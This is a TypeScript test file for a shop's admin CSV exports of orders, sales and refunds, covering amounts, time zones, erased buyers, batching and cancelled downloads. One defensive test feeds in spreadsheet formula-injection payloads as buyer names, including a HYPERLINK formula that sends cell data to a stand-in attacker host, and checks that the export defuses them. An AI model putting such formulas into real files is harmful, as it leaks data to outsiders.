import { setImmediate } from 'node:timers/promises'
import { describe, expect, test } from 'vitest'
import type { OrderId } from '#store/ids.ts'
import type { LedgerEntryTable } from '#store/orders/ledger-table.ts'
import type { OrderTable } from '#store/orders/order-table.ts'
import { erasePerson } from '#store/privacy/erase-person.server.ts'
import { listRefundedOrderBatches } from '#store/sales/export-queries.server.ts'
import { findRevenue } from '#store/sales/revenue-queries.server.ts'
import { getTimeRange } from '#store/sales/time-range.ts'
import { address, insertInto, updateRow } from '#test/factories.ts'
import { setUpAdmin, setUpHarness } from '#test/harness.ts'
import { insertEntryRow, insertOrder, orderFixture, orderItemFixture } from '#test/order-factories.ts'
import { readCsvRecords } from '#test/parse-csv.ts'
import { isFullSize } from '#test/test-size.ts'

// The harness sets the clock to 20 November 2026, noon in Malaysia.
const harness = setUpHarness({ hasPages: true })
const admin = setUpAdmin(harness)

const paid = { paid: 1, status: 'paid', paymentStatus: 'paid' } as const

const insertRefund = (orderId: OrderId, refund: Partial<LedgerEntryTable>) =>
  insertEntryRow(harness.db, orderId, {
    paymentIntentId: `pi_${orderId}`,
    amountSen: 1050,
    madeAt: null,
    ...refund,
  })

const download = async (path: string) => readCsvRecords(await admin.request(`/admin/money/${path}`))

describe('the file of orders', () => {
  test('has a row per order with its amounts as numbers and its times in Malaysian time', async () => {
    const orderId = await insertOrder(harness.db, {
      ...paid,
      createdAt: '2026-11-01T15:30:00.000Z',
      paidAt: '2026-11-01T16:30:05.000Z',
      paymentMethod: 'fpx',
      paymentIntentId: 'pi_1',
      paymentStatus: 'partially_refunded',
      refundedSen: 1050,
      courier: 'jnt',
      trackingNumber: '612345678901',
    })
    await insertRefund(orderId, { paymentIntentId: 'pi_1', madeAt: '2026-11-05T00:00:00.000Z' })
    const { response, records } = await download('orders.csv')
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="orders-all-to-2026-11-20.csv"',
      'cache-control': 'private, no-store',
    })
    expect(records).toEqual([
      {
        Order: expect.stringMatching(/^#[0-9A-Z]{8}$/),
        Placed: '2026-11-01 23:30:00',
        Paid: '2026-11-02 00:30:05',
        Status: 'paid',
        Payment: 'partially refunded',
        'Payment method': 'fpx',
        'Payment id': 'pi_1',
        Buyer: address.name,
        'E-mail': 'siti@example.com',
        Phone: "'+60123456789",
        Address: address.address,
        City: address.city,
        Postcode: address.zip,
        State: 'Sabah',
        Country: 'Malaysia',
        Pieces: '1',
        Titles: expect.stringMatching(/^Ordered shirt/),
        'Goods (MYR)': '45',
        'Shipping (MYR)': '10',
        'Total (MYR)': '55',
        'Received (MYR)': '55',
        'Refunded (MYR)': '10.5',
        'Net (MYR)': '44.5',
        Courier: 'J&T Express',
        'Tracking number': '612345678901',
        Row: 'order',
      },
    ])
  })

  test.each([
    ['=HYPERLINK("http://evil.example?"&A1,"Click")', '\'=HYPERLINK("http://evil.example?"&A1,"Click")'],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['-1+1', "'-1+1"],
    ['Siti "Sis", Rahmah; KK', 'Siti "Sis", Rahmah; KK'],
    ['first\r\nsecond\nthird', 'first\r\nsecond\nthird'],
    ['ستي رحمه 👗', 'ستي رحمه 👗'],
  ])('carries the buyer %j unharmed and harmless', async (shipName, expected) => {
    await insertOrder(harness.db, { ...paid, shipName, shipAddress: shipName })
    const { records } = await download('orders.csv')
    expect(records).toMatchObject([{ Buyer: expected, Address: expected, 'Total (MYR)': '55' }])
  })

  test('keeps an erased person erased', async () => {
    await insertOrder(harness.db, { ...paid, status: 'delivered', paidAt: '2026-11-01T00:00:00.000Z' })
    const { uid } = admin
    await erasePerson(harness.store, { email: 'siti@example.com', by: { uid, email: 'boss@example.com' } })
    const { response, records } = await download('orders.csv')
    expect(response.status).toBe(200)
    expect(records).toMatchObject([
      {
        Buyer: 'Erased',
        'E-mail': '',
        Phone: '',
        Address: '',
        City: '',
        Postcode: '',
        State: 'Sabah',
        'Total (MYR)': '55',
      },
    ])
    expect((await download('sales.csv')).records).toMatchObject([{ Buyer: 'Erased' }])
  })

  test('has the orders of the chosen month: those paid in it, and those placed in it and never paid', async () => {
    const placedBefore = '2026-09-10T00:00:00.000Z'
    const september = await insertOrder(harness.db, { ...paid, createdAt: placedBefore, paidAt: placedBefore })
    const paidLater = await insertOrder(harness.db, {
      ...paid,
      createdAt: placedBefore,
      paidAt: '2026-09-30T16:00:00.000Z',
    })
    const unpaid = await insertOrder(harness.db, { createdAt: '2026-10-05T00:00:00.000Z' })
    const list = async (path: string) => (await download(path)).records.map(({ Order }) => Order)
    const numbers = (ids: string[]) => ids.map(id => `#${id.slice(-8).toUpperCase()}`)
    expect(await list('orders.csv?month=2026-09')).toEqual(numbers([september]))
    expect(await list('orders.csv?month=2026-10')).toEqual(numbers([paidLater, unpaid]))
    expect(await list('sales.csv?month=2026-10')).toEqual(numbers([paidLater]))
    expect(await list('orders.csv?period=week')).toEqual([])
  })
})

describe('the file of orders of a month', () => {
  const insertPaid = async (paidAt: string) => {
    const id = await insertOrder(harness.db, { ...paid, createdAt: paidAt, paidAt })
    await updateRow(harness.db, 'orders', id, { paymentIntentId: `pi_${id}` })
    return id
  }
  const sum = (records: Record<string, string>[], name: string) =>
    records.reduce((total, record) => total + Math.round(Number(record[name]) * 100), 0)

  /** The file of orders, and the sums of the money page, of each month. */
  async function compare(month: string) {
    const { records } = await download(`orders.csv?month=${month}`)
    const { total } = await findRevenue(harness.db, getTimeRange({ period: 'all', month }, harness.store.now()))
    expect(sum(records, 'Received (MYR)')).toBe(total.goods + total.shipping)
    expect(sum(records, 'Refunded (MYR)')).toBe(total.refunds)
    expect(sum(records, 'Net (MYR)')).toBe(total.net)
    expect(sum((await download(`sales.csv?month=${month}`)).records, 'Amount (MYR)')).toBe(total.goods)
    return records
  }

  test('stays as it was when an order is refunded later, and agrees with the page', async () => {
    const id = await insertPaid('2026-09-10T00:00:00.000Z')
    await insertPaid('2026-10-10T00:00:00.000Z')
    const before = await compare('2026-09')
    await insertRefund(id, { madeAt: '2026-10-11T00:00:00.000Z' })
    expect(await compare('2026-09')).toEqual(before)
    const [, refunded] = await compare('2026-10')
    expect(refunded).toMatchObject({
      Order: `#${id.slice(-8).toUpperCase()}`,
      Paid: '2026-09-10 08:00:00',
      Pieces: '',
      'Goods (MYR)': '',
      'Shipping (MYR)': '',
      'Total (MYR)': '',
      'Received (MYR)': '0',
      'Refunded (MYR)': '10.5',
      'Net (MYR)': '-10.5',
      Row: 'refund of an order of another time',
    })
  })

  test('has a refund that failed in another month as negative there', async () => {
    const id = await insertPaid('2026-09-10T00:00:00.000Z')
    await insertRefund(id, { madeAt: '2026-09-11T00:00:00.000Z', failedAt: '2026-10-01T00:00:00.000Z' })
    await insertRefund(id, { madeAt: '2026-10-11T00:00:00.000Z', failedAt: '2026-10-12T00:00:00.000Z' })
    expect(await compare('2026-09')).toMatchObject([{ 'Refunded (MYR)': '10.5' }])
    expect(await compare('2026-10')).toMatchObject([{ 'Refunded (MYR)': '-10.5', 'Net (MYR)': '10.5' }])
    expect(await compare('2026-11')).toEqual([])
    expect((await download('orders.csv')).records).toMatchObject([{ 'Refunded (MYR)': '0' }])
  })

  test('neither loses nor repeats refunds between batches', async () => {
    const ids: OrderId[] = []
    for (let index = 0; index < 5; index++) ids.push(await insertPaid('2026-09-10T00:00:00.000Z'))
    for (const id of ids) await insertRefund(id, { madeAt: '2026-10-11T00:00:00.000Z' })
    const range = getTimeRange({ period: 'all', month: '2026-10' }, harness.store.now())
    const listed: string[] = []
    for await (const orders of listRefundedOrderBatches(harness.db, { range, batchSize: 2 }))
      listed.push(...orders.map(({ id }) => id))
    expect(listed).toEqual(ids.sort())
  })
})

describe('many orders', () => {
  const count = isFullSize ? 10_000 : 2_000

  async function insertManyOrders() {
    // Several share a time, as batches must not lose or repeat them.
    const at = (index: number) => new Date(Date.UTC(2026, 0, 1) + Math.floor(index / 7) * 3_600_000).toISOString()
    const orders: OrderTable[] = Array.from({ length: count }, (_, index) =>
      orderFixture({ ...paid, createdAt: at(index), paidAt: at(index) }),
    )
    for (let start = 0; start < count; start += 500) {
      const rows = orders.slice(start, start + 500)
      await harness.db.insertInto('orders').values(rows).execute()
      await insertInto(
        harness.db,
        'orderItems',
        rows.map(({ id }) => orderItemFixture(id)),
      )
    }
    return orders
  }

  test('are each in the file once, and other requests get their turn meanwhile', async () => {
    const orders = await insertManyOrders()
    let turns = 0
    let isDone = false
    const countTurns = async () => {
      while (!isDone) {
        await setImmediate()
        turns += 1
      }
    }
    const counting = countTurns()
    const { records } = await download('orders.csv')
    isDone = true
    await counting
    expect(records.map(({ Order }) => Order)).toEqual(orders.map(({ orderNumber }) => `#${orderNumber}`))
    expect(turns).toBeGreaterThan(count / 100)
  })

  test('are read no further when the download is cancelled', async () => {
    await insertManyOrders()
    const response = await admin.request('/admin/money/orders.csv')
    const reader = response.body?.getReader()
    for (let part = 0; part < 3; part++) await reader?.read()
    await reader?.cancel()
    const before = harness.queryCount()
    await setImmediate()
    expect(harness.queryCount() - before).toBeLessThanOrEqual(2)
  })
})
